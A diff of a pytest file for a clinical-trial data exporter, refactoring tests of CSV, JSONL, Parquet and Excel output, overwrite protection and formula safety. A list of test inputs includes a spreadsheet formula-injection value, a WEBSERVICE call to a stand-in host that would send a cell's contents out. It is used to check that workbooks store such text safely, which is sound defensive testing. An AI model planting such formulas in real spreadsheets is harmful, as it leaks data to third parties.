@@ -72,48 +72,37 @@ def test_a_database_holds_all_tables_with_types_and_meanings(run, tmp_path):
     assert ids == [("NCT90000001",), ("NCT90000002",), ("NCT90000003",)]
 
 
-def test_all_formats_hold_the_same(run, tmp_path):
+@pytest.fixture
+def limits(run, tmp_path):
+    """The table of limits by its format: the rows, with the values of the format's own types."""
     for format_ in (Format.CSV, Format.JSONL, Format.PARQUET):
         export(run, tmp_path / format_, format_)
     lines = (tmp_path / "jsonl" / "constraints.jsonl").read_text("utf-8").splitlines()
-    plain = [tuple(json.loads(line).values()) for line in lines]
-    columnar = duckdb.sql(
+    cells = read_csv(tmp_path / "csv" / "constraints.csv")
+    parquet = duckdb.sql(
         f"SELECT * FROM read_parquet('{tmp_path}/parquet/constraints.parquet')"
-    ).fetchall()
-    cells = [
-        tuple(cell or None for cell in row.values())
-        for row in read_csv(tmp_path / "csv" / "constraints.csv")
-    ]
-    assert columnar == plain
-    words = {None: None, True: "true", False: "false"}
-    assert cells == [
-        tuple(words[c] if c is None or isinstance(c, bool) else str(c) for c in row)
-        for row in plain
-    ]
-    assert len(plain) == 6
-    assert plain[1][9:-3] == (
-        "ecog_performance_status",
-        False,
-        "89247-1",
-        "{score}",
-        "{score}",
-        0,
-        2,
-        None,
-        None,
-        "between",
     )
-    assert plain[1][-3:] == (
-        None,
-        None,
-        None,
-    )  # it holds for all, and these values have no evidence
-    described = json.loads((tmp_path / "csv" / "tables.json").read_text("utf-8"))
-    assert described["constraints"]["keys"] == [
-        "record_id",
-        "criterion_index",
-        "constraint_index",
-    ]
+    return {
+        "jsonl": [tuple(json.loads(line).values()) for line in lines],
+        "csv": [tuple(row.values()) for row in cells],
+        "parquet": parquet.fetchall(),
+    }
+
+
+def write_cell(value):
+    """A value as a cell of CSV has it."""
+    if value is None:
+        return ""
+    if isinstance(value, bool):
+        return "true" if value else "false"
+    return str(value)
+
+
+def test_all_formats_hold_the_same(limits):
+    rows = limits["jsonl"]
+    assert len(rows) == 6
+    assert limits["parquet"] == rows
+    assert limits["csv"] == [tuple(map(write_cell, row)) for row in rows]
 
 
 def test_a_file_holds_one_table(run, tmp_path):
@@ -185,25 +174,36 @@ def test_csv_is_safe_in_a_spreadsheet_and_always_the_same(run, tmp_path):
         assert path.read_bytes() == (tmp_path / "second" / path.name).read_bytes()
 
 
-@pytest.mark.parametrize(
+REPLACED = pytest.mark.parametrize(
     ("name", "format_"), [("t.duckdb", None), ("t", Format.CSV), ("t", Format.PARQUET)]
 )
-def test_an_earlier_export_is_replaced_only_on_demand_and_kept_by_a_failure(
-    run, tmp_path, name, format_
-):
+
+
+@REPLACED
+def test_an_earlier_export_is_replaced_only_on_demand(run, tmp_path, name, format_):
     to = tmp_path / name
     export(run, to, format_)
+
     with pytest.raises(StoreError, match="--force"):
         export(run, to, format_)
+
     assert export(run, to, format_, force=True)["records"] == 3
+
+
+@REPLACED
+def test_an_earlier_export_is_kept_by_a_failure(run, tmp_path, name, format_):
+    to = tmp_path / name
+    export(run, to, format_)
     files = [to] if to.is_file() else sorted(to.iterdir())
-    before = [path.read_bytes() for path in files]
+    contents = [path.read_bytes() for path in files]
     listed = sorted(path.name for path in tmp_path.iterdir())
     with (run / "extractions.jsonl").open("a") as file:
         file.write('{"record_id": "torn')
+
     with pytest.raises(StoreError, match="line 4: is broken"):
         export(run, to, format_, force=True)
-    assert [path.read_bytes() for path in files] == before
+
+    assert [path.read_bytes() for path in files] == contents
     assert sorted(path.name for path in tmp_path.iterdir()) == listed
 
 
@@ -211,8 +211,10 @@ def test_a_folder_of_other_files_is_never_replaced(run, tmp_path):
     other = tmp_path / "mine"
     other.mkdir()
     (other / "thesis.csv").write_text("precious")
+
     with pytest.raises(StoreError, match="holds other files"):
         export(run, other, Format.CSV, force=True)
+
     assert (other / "thesis.csv").read_text() == "precious"
 
 
@@ -257,20 +259,18 @@ def test_gold_is_read_file_by_file_and_a_broken_one_is_named(tmp_path):
 def test_a_workbook_has_a_sheet_for_each_table_and_no_formula(run, tmp_path):
     counts = export(run, tmp_path / "trials.xlsx")
     export(run, tmp_path / "rows", Format.JSONL)
+
     book = openpyxl.load_workbook(tmp_path / "trials.xlsx")
+
     assert book.sheetnames == [table.name for table in list_tables()]
-    for name, rows in counts.items():
+    for name, count in counts.items():
         lines = (tmp_path / "rows" / f"{name}.jsonl").read_text("utf-8").splitlines()
-        names, *found = book[name].iter_rows(values_only=True)
-        assert len(found) == rows
-        assert [dict(zip(names, row, strict=True)) for row in found] == list(
-            map(json.loads, lines)
-        )
-        assert {cell.data_type for row in book[name].iter_rows() for cell in row} <= {
-            "s",
-            "n",
-            "b",
-        }
+        header, *rows = book[name].iter_rows(values_only=True)
+        assert len(rows) == count
+        objects = [dict(zip(header, row, strict=True)) for row in rows]
+        assert objects == [json.loads(line) for line in lines]
+        for row in book[name].iter_rows():
+            assert {cell.data_type for cell in row} <= {"s", "n", "b"}
 
 
 ARRAYS = ['{=WEBSERVICE("http://a.b/"&A1)}', "{=1+1}", "{=1", "{}", "internal:A1"]
@@ -284,7 +284,9 @@ def test_a_text_in_a_workbook_stays_as_it_is(text, tmp_path):
     (tmp_path / "rows").write_text(
         json.dumps({column.name: text for column in table.columns}) + "\n", "utf-8"
     )
+
     excel.write_workbook(tmp_path / "a.xlsx", [table], {table.name: tmp_path / "rows"})
+
     cell = openpyxl.load_workbook(tmp_path / "a.xlsx")[table.name]["A2"]
     assert cell.value.replace("_x000D_", "\r") == text
     assert cell.data_type == "s"
@@ -299,7 +301,11 @@ def oldest_library(tmp_path_factory):
     extras = tomllib.loads(Path("pyproject.toml").read_text("utf-8"))["project"][
         "optional-dependencies"
     ]
-    [needed] = [one for one in extras["excel"] if one.startswith("xlsxwriter")]
+    [needed] = [
+        requirement
+        for requirement in extras["excel"]
+        if requirement.startswith("xlsxwriter")
+    ]
     oldest = needed.removeprefix("xlsxwriter>=")
     if version("xlsxwriter") == oldest:
         return None
@@ -321,6 +327,36 @@ def oldest_library(tmp_path_factory):
     return folder
 
 
+def test_a_row_of_limits_has_canonical_names_and_units(limits):
+    row = limits["jsonl"][1]
+    assert row[9:-3] == (
+        "ecog_performance_status",
+        False,
+        "89247-1",
+        "{score}",
+        "{score}",
+        0,
+        2,
+        None,
+        None,
+        "between",
+    )
+    # it holds for all, and these values have no evidence
+    assert row[-3:] == (None, None, None)
+
+
+def test_the_keys_of_a_table_are_described_beside_it(run, tmp_path):
+    export(run, tmp_path / "csv", Format.CSV)
+
+    described = json.loads((tmp_path / "csv" / "tables.json").read_text("utf-8"))
+
+    assert described["constraints"]["keys"] == [
+        "record_id",
+        "criterion_index",
+        "constraint_index",
+    ]
+
+
 def test_the_oldest_library_that_is_allowed_writes_no_formula_either(
     run, tmp_path, oldest_library
 ):
@@ -329,38 +365,31 @@ def test_the_oldest_library_that_is_allowed_writes_no_formula_either(
     (run / "extractions.jsonl").write_text(
         lines.replace("NCT90000001", quoted), "utf-8"
     )
+    to = tmp_path / "a.xlsx"
     code = (
         "import sys; from pathlib import Path; from extractor.apps.export import Destination, "
         "Format, export_run;"
         "export_run(Path(sys.argv[1]), Destination.choose(Path(sys.argv[2]), Format.XLSX))"
     )
-    path = {
-        "PYTHONPATH": os.pathsep.join(
-            filter(None, [str(oldest_library or ""), *sys.path])
-        )
-    }
+    paths = [path for path in sys.path if path]
+    if oldest_library:
+        paths.insert(0, str(oldest_library))
+
     subprocess.run(
-        [sys.executable, "-c", code, run, tmp_path / "a.xlsx"],
-        env=os.environ | path,
+        [sys.executable, "-c", code, run, to],
+        env=os.environ | {"PYTHONPATH": os.pathsep.join(paths)},
         check=True,
     )
 
-    book = openpyxl.load_workbook(tmp_path / "a.xlsx")
-
+    book = openpyxl.load_workbook(to)
     assert book["records"]["A2"].value == ARRAYS[0]
-    assert {
-        cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row
-    } <= {
-        "s",
-        "n",
-        "b",
-    }
-    with zipfile.ZipFile(tmp_path / "a.xlsx") as parts:
-        assert not [
-            name
-            for name in parts.namelist()
-            if "sheets" in name and b"<f" in parts.read(name)
-        ]
+    for sheet in book:
+        for row in sheet.iter_rows():
+            assert {cell.data_type for cell in row} <= {"s", "n", "b"}
+    with zipfile.ZipFile(to) as parts:
+        for name in parts.namelist():
+            if "sheets" in name:
+                assert b"<f" not in parts.read(name)
 
 
 def test_the_library_never_guesses_what_a_cell_is(run, tmp_path, monkeypatch):
@@ -381,8 +410,10 @@ def test_a_table_that_no_sheet_holds_is_refused(run, tmp_path, monkeypatch):
     ):
         export(run, tmp_path / "trials.xlsx", tables=choose_tables([], ["constraints"]))
     monkeypatch.setattr(excel, "_LONGEST_TEXT", 5)
+
     with pytest.raises(
         StoreError, match=r"criteria: row 1, record_id: has more than 5 characters"
     ):
         export(run, tmp_path / "trials.xlsx", tables=choose_tables([], ["criteria"]))
+
     assert not (tmp_path / "trials.xlsx").exists()
